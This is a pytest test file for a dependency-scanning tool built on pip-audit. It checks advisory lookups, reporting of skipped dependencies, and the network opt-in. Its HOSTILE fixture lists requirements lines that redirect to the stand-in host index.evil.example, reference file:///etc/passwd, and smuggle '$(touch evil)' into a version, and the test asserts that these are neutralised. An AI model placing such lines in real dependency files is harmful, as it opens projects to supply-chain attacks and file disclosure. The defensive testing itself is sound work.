"""The real pip-audit, with the index's advisories answered on this machine: what it is given and what its silence means."""

from pathlib import Path
from typing import Any

import pytest
from support.command import autoguard
from support.estate import write_tree
from tools.advisories import HOST, NOWHERE, Asked, advisories, through

from autoguard.model import Document, Location
from autoguard.tools import Skip, ToolOptions, ToolReport, pip_audit

KNOWN = [{"id": "PYSEC-2019-179", "aliases": [], "details": "Memory usage.", "fixed_in": ["1.0"], "withdrawn": None}]
CHECK = "vulnerable-dependency"
ONLINE = ToolOptions(online=True)


def ask(folder: Path, files: dict[str, str], known: dict[str, Any]) -> tuple[ToolReport, Asked]:
    work = folder / "work"
    work.mkdir()
    documents = [Document(path, text.encode()) for path, text in files.items()]
    with advisories(folder, known) as asked:
        return pip_audit.look(documents, work, ONLINE), asked


def one(folder: Path, text: str, known: dict[str, Any]) -> tuple[ToolReport, Asked]:
    return ask(folder, {"requirements.txt": text}, known)


def test_what_is_known_to_be_vulnerable_is_found_at_its_line(tmp_path: Path) -> None:
    report, asked = one(
        tmp_path, "# web\nFlask[async] == 0.5  # old\njinja2==3.1.6\n", {"flask/0.5": KNOWN, "jinja2/3.1.6": []}
    )
    assert report.run.status == "ran"
    [found] = report.results
    assert (found.rule, found.location, found.subject) == (
        "PYSEC-2019-179", Location("requirements.txt", 2), "flask==0.5",
    )  # fmt: skip
    assert found.message == "flask 0.5, fixed in 1.0"
    assert report.skipped == ()
    assert sorted(asked.paths) == ["/pypi/flask/0.5/json", "/pypi/jinja2/3.1.6/json"]


def test_a_dependency_that_pip_audit_skips_is_open(tmp_path: Path) -> None:
    report, _ = one(tmp_path, "nowhere==1.0\nflask==0.5\n", {"flask/0.5": []})
    assert (report.run.status, report.results) == ("ran", ())
    [skip] = report.skipped
    assert (skip.what, skip.location) == ("nowhere==1.0", Location("requirements.txt", 1))
    assert "not found" in skip.reason


def test_two_versions_of_one_package_are_both_looked_up(tmp_path: Path) -> None:
    files = {"a/requirements.txt": "flask==0.5\n", "b/requirements-dev.txt": "flask==0.6\nclick==8\n"}
    report, _ = ask(tmp_path, files, {"flask/0.5": [], "flask/0.6": KNOWN, "click/8": []})
    assert [(found.subject, found.location) for found in report.results] == [
        ("flask==0.6", Location("b/requirements-dev.txt", 1))
    ]
    assert report.skipped == ()


@pytest.mark.parametrize(
    "line", ["flask", "flask>=0.5", "flask~=0.5", "flask>=0.5,==0.6", "flask @ https://a.eu/f.whl", "flask===0.5"]
)
def test_a_version_that_is_not_fixed_is_open(line: str, tmp_path: Path) -> None:
    report, asked = one(tmp_path, f"{line}\n", {})
    assert report.skipped == (
        Skip("flask", "it has no fixed version, so nobody knows what runs", Location("requirements.txt", 1)),
    )
    assert asked.hosts == []


@pytest.mark.parametrize("line", ["git+https://code.eu/a.git@main", "./vendor/f", "-e ./f"])
def test_a_dependency_without_a_name_is_open(line: str, tmp_path: Path) -> None:
    report, _ = one(tmp_path, f"flask==0.5\n{line}\n", {"flask/0.5": []})
    assert [skip.location.line for skip in report.skipped] == [2]


@pytest.mark.parametrize("line", ["django==4.2.*", "django==1!!"])
def test_a_version_that_is_none_costs_only_itself(line: str, tmp_path: Path) -> None:
    report, _ = one(tmp_path, f"flask==0.5\n{line}\n", {"flask/0.5": KNOWN})
    assert [found.subject for found in report.results] == ["flask==0.5"]
    assert [skip.location.line for skip in report.skipped] == [2]


HOSTILE = """\
-r other.txt
-c constraints.txt
--requirement=https://index.evil.example/all.txt
-i https://index.evil.example/simple
--index-url https://index.evil.example/simple
--extra-index-url=https://index.evil.example/simple
--find-links https://index.evil.example
--trusted-host index.evil.example
-e git+https://index.evil.example/a.git#egg=a
--editable .
--no-binary :all:
--config-settings=--build-option=x
git+https://index.evil.example/b.git#egg=b
https://index.evil.example/c-1.0.tar.gz
file:///etc/passwd
d @ https://index.evil.example/d-1.0.tar.gz
flask==0.5 --hash=sha256:00 --global-option=evil ; python_version > "3" \\
    --index-url https://index.evil.example/simple
click==8.0$(touch evil)
six==1.0\r--index-url https://index.evil.example/simple
"""


def test_options_of_a_scanned_file_reach_nobody(tmp_path: Path) -> None:
    report, asked = one(tmp_path, HOSTILE, {"flask/0.5": KNOWN, "click/8.0": [], "six/1.0": []})
    assert [found.subject for found in report.results] == ["flask==0.5"]
    assert {*asked.hosts} == {f"{HOST}:443"}
    assert sorted(asked.paths) == ["/pypi/click/8.0/json", "/pypi/flask/0.5/json", "/pypi/six/1.0/json"]
    [clean] = sorted((tmp_path / "work").glob("*.txt"))
    assert clean.read_text() == "flask==0.5\nclick==8.0\nsix==1.0\n"
    assert not list((tmp_path / "work").rglob("*evil*"))


def test_without_a_network_nothing_passes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    through(monkeypatch, NOWHERE)
    report = pip_audit.look([Document("requirements.txt", b"flask==0.5\nclick\n")], tmp_path, ONLINE)
    assert (report.run.status, report.run.reason) == ("failed", "the advisory service could not be reached")
    assert report.results == ()


def counts(tree: Path, *options: str) -> tuple[dict[str, int], list[str], int]:
    done = autoguard("scan", ".", "-f", "json", *options, cwd=tree)
    [count] = [one for one in done.json["checks"] if one["id"] == CHECK]
    reasons = [one["reason"] for one in done.json["not_judged"] if one["check"] == CHECK]
    return {name: count[name] for name in ("pass", "fail", "unknown")}, reasons, done.code


def test_the_command_asks_only_with_leave_and_takes_no_answer_for_good(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tree = write_tree(tmp_path / "tree", {"requirements.txt": "flask==0.5\nnowhere==1.0\n"})
    open_question = {"pass": 0, "fail": 0, "unknown": 1}
    with advisories(tmp_path, {"flask/0.5": []}) as asked:
        reason = "looking up 2 dependencies needs the network; allow it with --online"
        assert counts(tree) == (open_question, [reason], 0)
        assert asked == Asked()
        assert counts(tree, "--online")[0] == open_question
        assert asked.paths
    with advisories(tmp_path, {"flask/0.5": [], "nowhere/1.0": []}):
        assert counts(tree, "--online") == ({"pass": 1, "fail": 0, "unknown": 0}, [], 0)
    through(monkeypatch, NOWHERE)
    assert counts(tree, "--online") == (open_question, ["the advisory service could not be reached"], 0)
